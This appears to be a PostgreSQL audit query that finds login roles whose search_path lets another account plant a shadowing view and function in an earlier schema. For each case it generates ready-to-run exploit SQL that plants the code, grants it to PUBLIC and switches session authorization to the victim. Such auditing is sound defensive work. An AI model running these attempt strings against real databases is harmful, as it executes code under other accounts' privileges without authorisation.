-- search paths of accounts: who can make something in a schema that an account looks into before the one it means, has what it
-- makes run as that account.
SELECT 'create:' || s.schema AS source, 'role:' || s.rolname AS target, 'planted code' AS kind,
       format('%I looks up names in schema %I before schema %I (its search_path)', s.rolname, s.schema, s.later) AS reason,
       format('CREATE FUNCTION %1$I.recuse_reach() RETURNS boolean LANGUAGE plpgsql AS %2$L; '
              'CREATE VIEW %1$I.%3$I AS SELECT WHERE %1$I.recuse_reach(); GRANT SELECT ON %1$I.%3$I TO PUBLIC; '
              'RESET SESSION AUTHORIZATION; SET SESSION AUTHORIZATION %4$I; SET search_path = %5$s; SELECT * FROM %3$I', s.schema,
              E'BEGIN RAISE NOTICE ''%'', (SELECT r::pg_catalog.text FROM recuse_read AS r LIMIT 1);\nRETURN true;\nEND',
              s.relation, s.rolname, s.path) AS attempt, s.rolname AS identity
FROM (
  SELECT DISTINCT ON (r.rolname, one.schema) r.rolname, one.schema, later.schema AS later, c.relname AS relation, p.path
  FROM pg_db_role_setting AS d
  JOIN role AS r ON r.rolcanlogin AND d.setrole IN (0, r.oid)
  CROSS JOIN LATERAL (
    SELECT substr(s, length('search_path=') + 1) FROM unnest(d.setconfig) AS s WHERE s LIKE 'search\_path=%'
  ) AS p (path)
  CROSS JOIN LATERAL regexp_split_to_table(p.path, ',\s*') WITH ORDINALITY AS one_part (text, place)
  CROSS JOIN LATERAL regexp_split_to_table(p.path, ',\s*') WITH ORDINALITY AS later_part (text, place)
  CROSS JOIN LATERAL (SELECT replace(btrim(one_part.text, '"'), '$user', r.rolname)) AS one (schema)
  CROSS JOIN LATERAL (SELECT replace(btrim(later_part.text, '"'), '$user', r.rolname)) AS later (schema)
  JOIN pg_namespace AS before ON before.nspname = one.schema
  JOIN pg_namespace AS n ON n.nspname = later.schema AND n.nspname <> 'pg_catalog'
  JOIN pg_class AS c ON c.relnamespace = n.oid AND c.relkind IN ('r', 'p', 'v', 'm', 'f')
    AND NOT EXISTS (SELECT FROM pg_class AS own WHERE own.relnamespace = before.oid AND own.relname = c.relname)
  WHERE d.setdatabase IN (0, (SELECT oid FROM pg_database WHERE datname = current_database()))
    AND one_part.place < later_part.place AND one.schema <> 'pg_catalog'
  ORDER BY r.rolname, one.schema, later_part.place, c.relname
) AS s
